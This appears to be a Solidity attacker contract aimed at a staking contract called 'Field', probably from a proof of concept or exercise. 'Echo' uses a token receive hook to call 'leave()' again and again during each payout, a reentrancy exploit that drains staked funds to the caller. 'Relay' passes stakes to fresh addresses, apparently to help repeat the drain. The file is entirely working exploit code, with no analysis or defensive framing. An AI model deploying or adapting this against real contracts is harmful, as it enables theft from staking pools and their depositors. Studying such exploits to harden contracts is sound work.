// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Token {
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function tellMe(bool wanted) external;
}

interface Field {
    function stake(uint256 amount) external;
    function ask(uint256 amount) external;
    function leave() external returns (uint256);
    function move(address to, uint256 amount) external;
    function claim(address to) external returns (uint256);
}

/// Leaves again while it is being paid.
contract Echo {
    Token private immutable token;
    Field private immutable field;
    uint256 private left;

    constructor(Token coin, Field target) {
        token = coin;
        field = target;
    }

    function enter() external {
        uint256 amount = token.balanceOf(address(this));
        token.approve(address(field), amount);
        field.stake(amount);
        field.ask(amount);
    }

    function go(uint256 times) external {
        token.tellMe(true);
        left = times;
        field.leave();
        token.tellMe(false);
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function tokensReceived(address, uint256) external {
        if (left == 0) return;
        left -= 1;
        field.leave();
    }
}

/// Passes a stake on to somebody who has none yet.
contract Relay {
    function pass(Token token, Field field, uint256 amount, address to) external {
        token.approve(address(field), amount);
        field.stake(amount);
        field.move(to, amount);
    }
}
